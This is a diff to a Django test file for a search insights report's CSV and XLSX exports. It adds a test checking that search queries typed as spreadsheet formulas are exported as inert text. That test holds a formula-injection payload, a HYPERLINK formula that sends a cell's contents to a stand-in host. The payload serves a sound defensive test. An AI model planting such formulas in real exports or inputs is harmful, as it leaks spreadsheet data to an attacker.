@@ -1,11 +1,14 @@
 """The search insights report: top queries, zero results and click-through for editors only."""
 
+import csv
 import datetime
+import io
 
 import pytest
 from django.contrib.auth.models import Group
 from django.urls import reverse
 from django.utils import timezone
+from openpyxl import load_workbook
 
 from tests.factories.search import QueryStatisticFactory
 
@@ -100,10 +103,28 @@ def test_start_in_the_future_is_refused_in_dutch(editor_client):
 def test_report_exports_to_csv(editor_client, statistics):
     response = editor_client.get(REPORT_URL, {"export": "csv"})
     assert response.status_code == 200
-    content = (
-        b"".join(response.streaming_content).decode() if response.streaming else response.content.decode()
-    )
-    assert "training,15,0,6,40" in content.replace(".0", "")
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    assert rows[0] == ["Zoekopdracht", "Zoekacties", "Zonder resultaten", "Klikken", "Doorklikratio (%)"]
+    assert ["training", "15", "0", "6", "40,0"] in rows
+
+
+def test_queries_typed_as_formulas_are_exported_as_inert_text(editor_client):
+    attack = '=HYPERLINK("https://evil.example/?d="&B3,"Klik hier")'
+    QueryStatisticFactory(query=attack, searches=9, clicks=3)
+    QueryStatisticFactory(query="-1 graden", searches=2)
+
+    xlsx = editor_client.get(REPORT_URL, {"export": "xlsx"})
+    sheet = load_workbook(io.BytesIO(xlsx.content)).active
+    query, searches, *_rest, click_through = next(sheet.iter_rows(min_row=2))
+    assert (query.value, query.data_type, query.quotePrefix) == (attack, "s", True)
+    assert (searches.value, searches.data_type) == (9, "n")
+    assert click_through.value == pytest.approx(33.3)
+    assert sheet["A3"].value == "-1 graden" and sheet["A3"].data_type == "s"
+
+    response = editor_client.get(REPORT_URL, {"export": "csv"})
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    assert rows[1] == ["'" + attack, "9", "0", "3", "33,3"]
+    assert rows[2][0] == "'-1 graden"
 
 
 def test_employee_cannot_open_the_report(employee_client, statistics):
